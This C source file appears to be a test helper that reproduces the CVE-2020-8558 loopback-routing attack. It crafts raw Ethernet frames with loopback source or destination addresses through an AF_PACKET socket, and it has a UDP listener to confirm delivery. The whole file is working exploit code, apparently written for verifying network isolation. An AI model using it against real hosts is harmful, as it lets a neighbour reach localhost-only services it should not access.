// The CVE-2020-8558 attack for the networking tests: a neighbour with CAP_NET_RAW crafts an
// Ethernet frame to the host's MAC whose destination (or source) is a loopback address, which
// the kernel routes as local on an interface with route_localnet=1. Built static, bind-mounted
// into busybox containers (busybox has neither raw sockets nor a UDP listener).
//
//   loopback_attack send IFACE DST-MAC SRC-IP DST-IP DST-PORT PAYLOAD [COUNT]
//       one UDP datagram (IPv4 or IPv6) through an AF_PACKET socket, COUNT times; SRC-IP "-"
//       is IFACE's own address
//   loopback_attack listen ADDR PORT
//       prints "SOURCE PAYLOAD" for each datagram received on ADDR:PORT
#include <arpa/inet.h>
#include <ifaddrs.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static uint32_t sum16(const void *data, size_t len, uint32_t sum) {
    const uint8_t *p = data;
    for (size_t i = 0; i + 1 < len; i += 2) sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (len & 1) sum += (uint32_t)(p[len - 1] << 8);
    return sum;
}

static uint16_t fold(uint32_t sum) {
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

// IFACE's first address of `family` that is not link-local.
static int own_address(const char *ifname, int family, void *out) {
    struct ifaddrs *list, *a;
    if (getifaddrs(&list) != 0) return -1;
    int found = -1;
    for (a = list; a && found; a = a->ifa_next) {
        if (!a->ifa_addr || a->ifa_addr->sa_family != family || strcmp(a->ifa_name, ifname) != 0) continue;
        if (family == AF_INET) {
            memcpy(out, &((struct sockaddr_in *)a->ifa_addr)->sin_addr, 4);
            found = 0;
        } else {
            struct in6_addr *in6 = &((struct sockaddr_in6 *)a->ifa_addr)->sin6_addr;
            if (IN6_IS_ADDR_LINKLOCAL(in6)) continue;
            memcpy(out, in6, 16);
            found = 0;
        }
    }
    freeifaddrs(list);
    return found;
}

static int send_frames(int argc, char **argv) {
    if (argc < 8) return 2;
    const char *ifname = argv[2], *payload = argv[7];
    int count = argc > 8 ? atoi(argv[8]) : 1;
    int family = strchr(argv[5], ':') ? AF_INET6 : AF_INET;
    uint8_t mac[6], src[16], dst[16];
    if (sscanf(argv[3], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6
        || inet_pton(family, argv[5], dst) != 1
        || (strcmp(argv[4], "-") == 0 ? own_address(ifname, family, src) : inet_pton(family, argv[4], src) - 1) != 0) {
        fprintf(stderr, "bad MAC or address\n");
        return 2;
    }
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    if (fd < 0) { perror("socket(AF_PACKET)"); return 1; }
    struct ifreq ifr = {0};
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", ifname);
    if (ioctl(fd, SIOCGIFHWADDR, &ifr) != 0) { perror("SIOCGIFHWADDR"); return 1; }

    uint8_t frame[1514] = {0};
    size_t plen = strlen(payload), iplen = family == AF_INET ? 20 : 40;
    if (plen > sizeof frame - 14 - iplen - 8) return 2;
    uint16_t ethertype = family == AF_INET ? ETH_P_IP : ETH_P_IPV6;
    memcpy(frame, mac, 6);
    memcpy(frame + 6, ifr.ifr_hwaddr.sa_data, 6);
    frame[12] = (uint8_t)(ethertype >> 8);
    frame[13] = (uint8_t)ethertype;
    uint8_t *ip = frame + 14, *udp = ip + iplen;
    uint16_t udplen = (uint16_t)(8 + plen);
    udp[0] = 40000 >> 8; udp[1] = 40000 & 0xff;
    uint16_t port = (uint16_t)atoi(argv[6]);
    udp[2] = (uint8_t)(port >> 8); udp[3] = (uint8_t)port;
    udp[4] = (uint8_t)(udplen >> 8); udp[5] = (uint8_t)udplen;
    memcpy(udp + 8, payload, plen);
    if (family == AF_INET) {
        uint16_t total = (uint16_t)(20 + udplen);
        ip[0] = 0x45;
        ip[2] = (uint8_t)(total >> 8); ip[3] = (uint8_t)total;
        ip[8] = 64;
        ip[9] = IPPROTO_UDP;
        memcpy(ip + 12, src, 4);
        memcpy(ip + 16, dst, 4);
        uint16_t check = fold(sum16(ip, 20, 0));
        memcpy(ip + 10, &check, 2);  // UDP's checksum stays 0: optional in IPv4
    } else {
        ip[0] = 0x60;
        ip[4] = (uint8_t)(udplen >> 8); ip[5] = (uint8_t)udplen;
        ip[6] = IPPROTO_UDP;
        ip[7] = 64;
        memcpy(ip + 8, src, 16);
        memcpy(ip + 24, dst, 16);
        // Mandatory in IPv6: over the pseudo-header (addresses, length, next header) and UDP.
        uint32_t sum = sum16(ip + 8, 32, 0) + udplen + IPPROTO_UDP;
        uint16_t check = fold(sum16(udp, udplen, sum));
        memcpy(udp + 6, &check, 2);
    }

    struct sockaddr_ll to = {
        .sll_family = AF_PACKET, .sll_protocol = htons(ethertype), .sll_ifindex = (int)if_nametoindex(ifname),
        .sll_halen = 6,
    };
    memcpy(to.sll_addr, mac, 6);
    size_t len = 14 + iplen + udplen;
    for (int i = 0; i < count; i++) {
        if (sendto(fd, frame, len, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)len) { perror("sendto"); return 1; }
    }
    printf("sent %d\n", count);
    return 0;
}

static int listen_udp(int argc, char **argv) {
    if (argc < 4) return 2;
    struct sockaddr_in6 addr = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)atoi(argv[3])) };
    char mapped[64];
    // One IPv6 socket for both families: IPv4 addresses as ::ffff:a.b.c.d.
    snprintf(mapped, sizeof mapped, strchr(argv[2], ':') ? "%s" : "::ffff:%s", argv[2]);
    if (strcmp(argv[2], "0.0.0.0") == 0) snprintf(mapped, sizeof mapped, "::");
    if (inet_pton(AF_INET6, mapped, &addr.sin6_addr) != 1) return 2;
    int fd = socket(AF_INET6, SOCK_DGRAM, 0), off = 0;
    setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &off, sizeof off);
    if (fd < 0 || bind(fd, (struct sockaddr *)&addr, sizeof addr) != 0) { perror("bind"); return 1; }
    printf("ready\n");
    fflush(stdout);
    for (;;) {
        char buf[1500], from[INET6_ADDRSTRLEN];
        struct sockaddr_in6 peer;
        socklen_t plen = sizeof peer;
        ssize_t n = recvfrom(fd, buf, sizeof buf - 1, 0, (struct sockaddr *)&peer, &plen);
        if (n < 0) continue;
        buf[n] = 0;
        inet_ntop(AF_INET6, &peer.sin6_addr, from, sizeof from);
        const char *shown = strncmp(from, "::ffff:", 7) == 0 ? from + 7 : from;
        printf("%s %s\n", shown, buf);
        fflush(stdout);
    }
}

int main(int argc, char **argv) {
    int rc = 2;
    if (argc > 1 && strcmp(argv[1], "send") == 0) rc = send_frames(argc, argv);
    if (argc > 1 && strcmp(argv[1], "listen") == 0) rc = listen_udp(argc, argv);
    if (rc == 2) {
        fprintf(stderr, "usage: %s send IFACE DST-MAC SRC-IP|- DST-IP DST-PORT PAYLOAD [COUNT]\n"
                        "       %s listen ADDR PORT\n", argv[0], argv[0]);
    }
    return rc;
}
